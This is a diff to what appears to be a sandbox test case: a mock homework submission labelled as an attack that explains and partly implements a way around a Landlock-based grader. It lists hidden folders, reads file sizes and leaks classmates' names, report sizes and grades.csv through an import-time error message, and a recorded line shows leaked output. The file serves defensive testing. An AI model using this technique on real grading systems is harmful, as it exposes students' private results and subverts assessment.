@@ -1,5 +1,5 @@
 # attack: lists OUT and DIR (found on the grader's command line) and stats their files: Landlock's ruleset handles reading files (LANDLOCK_ACCESS_FS_READ_FILE) but not LANDLOCK_ACCESS_FS_READ_DIR, and stat needs no right, so a hidden folder can be listed and its files' sizes read; the names of classmates and the sizes of their reports (a failing report is longer than a full-marks one) and of grades.csv come back in the error message (listed at import, so that a refusal costs the whole question)
-# expect: module=q01_causal_mask status=error match=Permission denied
+# expect: module=q01_causal_mask status=error match=Permission denied|no grading command among its ancestors
 # path: grade-dir user
 # reproduced: zed's q1 said 'OUT:.grading.lock(0),ann.feedback.md(4460),ann.json(1484),grades.csv(71),grading.log(430) | DIR:ann,zed'
 """Question 1, written to list the folders it may not read."""
@@ -20,6 +20,8 @@ def _look() -> str:
             found.append("DIR:" + ",".join(sorted(os.listdir(klass))))
             break
         pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
+    else:  # its zygote is the first process it can see (namespaces of its own, under an ordinary user)
+        raise ProcessLookupError("no grading command among its ancestors")
     import torch as _t
     kit = os.path.dirname(os.path.dirname(os.path.dirname(_t.__file__)))  # not the kit: find it from sys.path instead
     for entry in __import__("sys").path:
